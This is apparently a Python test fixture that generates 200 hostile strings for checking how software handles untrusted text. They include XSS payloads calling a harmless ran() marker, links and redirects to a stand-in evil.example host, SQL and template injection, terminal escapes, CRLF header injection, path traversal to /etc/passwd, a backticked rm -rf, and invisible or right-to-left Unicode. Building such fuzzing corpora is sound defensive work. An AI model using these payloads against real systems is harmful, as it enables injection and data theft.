"""200 texts that try to run, to break out, to move what stands beside them, or to be endless: markup, script, SQL,
templates, terminal escapes, right-to-left and other invisible characters. Each that could run would call `ran()`."""

_HTML = [
    "<script>ran({n})</script>", "<img src=x onerror=ran({n})>", "<svg onload=ran({n})>",
    "\"><script>ran({n})</script>",
    "'><img src=x onerror='ran({n})'>", "</textarea><script>ran({n})</script>", "</title><script>ran({n})</script>",
    "</div></div></main><script>ran({n})</script>", "<iframe srcdoc='<script>parent.ran({n})</script>'>",
    "<a href=javascript:ran({n})>x</a>", "javascript:ran({n})//", "<details open ontoggle=ran({n})>",
    "<input autofocus onfocus=ran({n})>", "<body onload=ran({n})>",
    "<style>@import 'http://evil.example/{n}'</style>",
    "<link rel=stylesheet href=http://evil.example/{n}>", "<base href=http://evil.example/{n}/>", "<!--",
    "--><script>ran({n})</script>",
    "<![CDATA[<script>ran({n})</script>]]>", "<math><mtext><script>ran({n})</script>",
    "&lt;script&gt;ran({n})&lt;/script&gt;",
    "<form action=http://evil.example/{n}><button>x",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<div hx-get=http://evil.example/{n} hx-trigger=load>", "<div hx-on:click=ran({n})>",
    "' onmouseover='ran({n})", "\" autofocus onfocus=\"ran({n})",
    "\\u003cscript\\u003eran({n})\\u003c/script\\u003e", "</script><script>ran({n})</script>",
    "]]><script>ran({n})</script>",
    "data:text/html,<script>ran({n})</script>", "<object data=javascript:ran({n})>",
    "<p data-load=http://evil.example/{n}.js>",
    "<template><script>ran({n})</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=ran({n})>\">", "${{ran({n})}}", "`${{ran({n})}}`",
]  # fmt: skip
_OTHER = [
    "{{{{ 7 * {n} }}}}", "{{% for x in () %}}{{% endfor %}}", "{{{{ config }}}}", "'; DROP TABLE OPS.AUDIT; --{n}",
    "\" OR 1=1 --{n}",
    "%(x)s %s {n}", "\x1b[2J\x1b[{n}mred", "\x1b]0;title{n}\x07", "\x9b31m{n}", "\r\nSet-Cookie: x={n}", "\0{n}\0",
    "\x08\x08\x7f{n}",
    "\u202e{n}gnp.exe", "\u2066\u202e{n}\u2069", "\u200f\u200e{n}", "عربي {n} עברית",
    "\u200b\u200c\u200d{n}\ufeff", "\u2028{n}\u2029", "a\u0301\u0302\u0303\u0304\u0305{n}" * 20,
    "\U000e0041\U000e0042{n}",
    "😀👩‍👩‍👧‍👦{n}", "\ufffe{n}\uffff", "`rm -rf {n}`", "| a | {n} |", "../../etc/passwd{n}", "//evil.example/{n}",
    "[x](javascript:ran({n}))", "[bold red]{n}[/]",
    "x" * 5000 + "{n}", "{n}\n" * 50, "\t{n}\t", " {n} ", "nu\u0000ll{n}",
]  # fmt: skip


def _made() -> list[str]:
    shapes, found = [*_HTML, *_OTHER], list[str]()
    while len(found) < 200:
        found += [shape.format(n=len(found) + number) for number, shape in enumerate(shapes)]
    return found[:200]


HOSTILE = _made()
